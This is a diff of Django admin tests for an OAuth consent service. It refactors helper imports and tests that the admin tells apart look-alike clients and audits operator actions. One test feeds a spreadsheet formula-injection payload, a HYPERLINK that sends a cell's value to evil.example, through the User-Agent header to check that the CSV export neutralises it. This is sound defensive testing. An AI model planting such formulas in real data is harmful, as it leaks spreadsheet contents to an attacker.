@@ -18,6 +18,7 @@ from oauth2_provider.models import (
 from mcp_consent.models import AuditEvent, Consent, MCPClient, RedirectURI, UpstreamToken
 from tests.browser_client import Browser, authorize_params
 from tests.factories import MCPClientFactory
+from tests.mcp_tokens import access_token_valid, issue_token
 
 pytestmark = pytest.mark.django_db
 
@@ -96,8 +97,6 @@ def test_dot_application_admin_cannot_add_or_edit_security_fields(operator) -> N
 
 def test_upstream_token_admin_never_shows_secrets(operator) -> None:
     """UP-07: the admin shows no ciphertext or token of the vault."""
-    from tests.factories import MCPClientFactory
-
     browser = Browser()
     browser.login_upstream()
     browser.run_flow(authorize_params(MCPClientFactory()))
@@ -121,8 +120,6 @@ def operator_at_desk(operator):  # type: ignore[no-untyped-def]
 
 def twin_clients() -> tuple[MCPClient, MCPClient]:
     """Two clients with the same self-asserted name: only client_id and host tell them apart."""
-    from tests.factories import MCPClientFactory
-
     return (
         MCPClientFactory(client_name="Claude", redirect_uris=["https://claude.example/cb"]),
         MCPClientFactory(client_name="Claude", redirect_uris=["https://collector.evil.example/cb"]),
@@ -130,11 +127,9 @@ def twin_clients() -> tuple[MCPClient, MCPClient]:
 
 
 def test_client_and_consent_lists_show_client_id_and_redirect_host(operator) -> None:
-    from tests.test_revocation import connect
-
     real, twin = twin_clients()
-    connect(real)
-    connect(twin)
+    issue_token(client=real)
+    issue_token(client=twin)
     for url in (
         reverse("admin:mcp_consent_mcpclient_changelist"),
         reverse("admin:mcp_consent_consent_changelist"),
@@ -146,11 +141,9 @@ def test_client_and_consent_lists_show_client_id_and_redirect_host(operator) -> 
 
 
 def test_by_client_filter_names_the_chosen_client(operator) -> None:
-    from tests.test_revocation import connect
-
     real, twin = twin_clients()
-    connect(real)
-    connect(twin)
+    issue_token(client=real)
+    issue_token(client=twin)
     url = reverse("admin:mcp_consent_consent_changelist")
     page = operator.get(url, {"client": twin.application.client_id}).content.decode()
     assert f"Claude — {twin.application.client_id} — collector.evil.example" in page
@@ -160,11 +153,9 @@ def test_by_client_filter_names_the_chosen_client(operator) -> None:
 
 
 def test_revoke_confirmation_tells_the_twins_apart(operator) -> None:
-    from tests.test_revocation import connect
-
     real, twin = twin_clients()
-    connect(real)
-    connect(twin)
+    issue_token(client=real)
+    issue_token(client=twin)
     consent = Consent.objects.get(client=twin)
     page = operator.post(
         reverse("admin:mcp_consent_consent_changelist"),
@@ -181,8 +172,6 @@ def test_revoke_confirmation_tells_the_twins_apart(operator) -> None:
 
 def test_registration_access_token_is_labelled_not_a_century_token(operator) -> None:
     """MGMT-05: the RFC 7592 token is shown as what it is, valid while the client exists."""
-    from tests.factories import MCPClientFactory
-
     client = MCPClientFactory()  # DCR: gets a registration access token
     token = get_access_token_model().objects.get(application=client.application)
     listing = operator.get(reverse("admin:oauth2_provider_accesstoken_changelist"))
@@ -198,11 +187,9 @@ def test_registration_access_token_is_labelled_not_a_century_token(operator) -> 
 
 def test_admin_actions_record_the_operators_address(operator_at_desk) -> None:
     """Issue 9 item 4: every event of an operator's action carries the operator's IP."""
-    from tests.test_revocation import connect
-
     real, twin = twin_clients()
-    connect(real)
-    connect(twin)
+    issue_token(client=real)
+    issue_token(client=twin)
     consents = reverse("admin:mcp_consent_consent_changelist")
     operator_at_desk.post(
         consents,
@@ -232,9 +219,7 @@ def test_admin_actions_record_the_operators_address(operator_at_desk) -> None:
 
 
 def test_audit_list_names_actor_client_consent_and_address(operator_at_desk) -> None:
-    from tests.test_revocation import connect
-
-    connected = connect()
+    connected = issue_token()
     page = operator_at_desk.get(reverse("admin:mcp_consent_auditevent_changelist")).content.decode()
     for text in (
         connected.client.application.client_id,
@@ -253,8 +238,6 @@ def test_csv_export_neutralises_formulas(operator, lead) -> None:
     character is exported with a leading ' so no spreadsheet evaluates it."""
     import csv
     import io
-
-    from tests.factories import MCPClientFactory
 
     payload = f'{lead}HYPERLINK("https://evil.example/?"&A1,"x")'
     operator.defaults["HTTP_USER_AGENT"] = payload
@@ -294,9 +277,7 @@ def test_csv_cells_keep_their_text() -> None:
 
 
 def _live_tokens() -> Any:
-    from tests.test_revocation import connect
-
-    connected = connect()
+    connected = issue_token()
     refresh = get_refresh_token_model().objects.get(user__isnull=False)
     access = get_access_token_model().objects.get(user__isnull=False)
     return connected, refresh, access
@@ -304,10 +285,8 @@ def _live_tokens() -> Any:
 
 def test_dot_token_admins_refuse_every_change(operator) -> None:
     """SEC-09: an operator posting DOT's change, add and delete forms changes nothing."""
-    from tests.test_revocation import access_token_valid, connect
-
     connected, refresh, access = _live_tokens()
-    rotated = connect(client_name="Other")  # a revoked refresh token to try to un-revoke
+    rotated = issue_token(client_name="Other")  # a revoked refresh token to try to un-revoke
     old_refresh = get_refresh_token_model().objects.get(application=rotated.client.application)
     old_refresh.revoke()
     old_refresh.refresh_from_db()
@@ -356,8 +335,6 @@ def test_dot_token_admins_refuse_every_change(operator) -> None:
 
 def test_dot_token_revoke_goes_through_the_audited_flow(operator_at_desk) -> None:
     """SEC-09: the one way to end a token in the admin is the consent cascade, audited."""
-    from tests.test_revocation import access_token_valid
-
     connected, refresh, access = _live_tokens()
     url = reverse("admin:oauth2_provider_accesstoken_changelist")
     listing = operator_at_desk.get(url).content.decode()
@@ -406,8 +383,6 @@ def test_dot_token_without_consent_is_revoked_and_audited(operator_at_desk) -> N
     from datetime import timedelta
 
     from django.utils import timezone
-
-    from tests.factories import MCPClientFactory
 
     client = MCPClientFactory()
     person = get_user_model().objects.create_user("stray")
